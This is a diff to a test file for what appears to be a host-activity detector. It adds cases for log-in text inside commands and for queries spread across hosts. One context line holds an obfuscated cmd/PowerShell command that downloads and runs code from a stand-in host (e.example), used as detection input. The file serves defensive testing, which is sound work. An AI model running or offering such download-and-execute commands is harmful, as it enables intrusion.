@@ -56,6 +56,13 @@ describe('what is started on hosts', () => {
     deepEqual(found?.suspects, ['203.0.113.5']);
   });
 
+  it('words of a log-in in a command are none', async () => {
+    const tests = steps(12).map(index =>
+      command(`check.exe --say "authentication failed for root from 203.0.113.${index}"`),
+    );
+    deepEqual(await levels(tests), []);
+  });
+
   it('tricks of writing hide nothing', async () => {
     const [found = ''] = await levels([
       command("cmd /c p^owershell I`EX (x).('Down'+'loadString')('https://e.example/x')"),
@@ -118,6 +125,8 @@ describe('what is started on hosts', () => {
 
     match((await levels(ask(0)))[0] ?? '', /^medium .*asked 6 different questions/);
     match((await levels([0, 1, 2, 3].flatMap(ask)))[0] ?? '', /^low /);
+    const everywhere = steps(6).flatMap(host => [0, 1, 2, 3].flatMap(ask).map(one => ({ ...one, host: `WS${host}` })));
+    deepEqual(await levels(everywhere), []);
   });
 
   it('a cleared log is told by its own technique, also where the message alone says so', async () => {
